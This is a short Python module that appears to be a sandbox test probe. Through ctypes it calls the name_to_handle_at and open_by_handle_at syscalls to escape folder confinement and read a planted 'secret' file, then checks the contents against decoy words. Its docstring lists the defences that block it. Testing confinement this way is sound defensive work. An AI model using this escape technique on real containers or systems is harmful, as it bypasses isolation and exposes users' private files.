"""Opens a folder by its handle, past every folder above it, and reads a file of the user's there.

stopped by: capabilities, seccomp, landlock, root
as: root
"""

import ctypes
import os
import struct

libc = ctypes.CDLL(None, use_errno=True)
NAME_TO_HANDLE_AT, OPEN_BY_HANDLE_AT = {"x86_64": (303, 304), "aarch64": (264, 265)}[os.uname().machine]
AT_FDCWD = -100


def attack(decoys):
    handle = ctypes.create_string_buffer(struct.pack("<Ii", 128, 0), 136)
    mount = ctypes.c_int()
    where = decoys["folder"].encode()
    if libc.syscall(NAME_TO_HANDLE_AT, AT_FDCWD, where, handle, ctypes.byref(mount), 0) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    file_system = os.open(decoys["folder"], os.O_RDONLY)
    folder = libc.syscall(OPEN_BY_HANDLE_AT, file_system, handle, os.O_RDONLY | os.O_DIRECTORY)
    if folder < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return os.read(os.open("secret", os.O_RDONLY, dir_fd=folder), 64).decode() == decoys["words"]
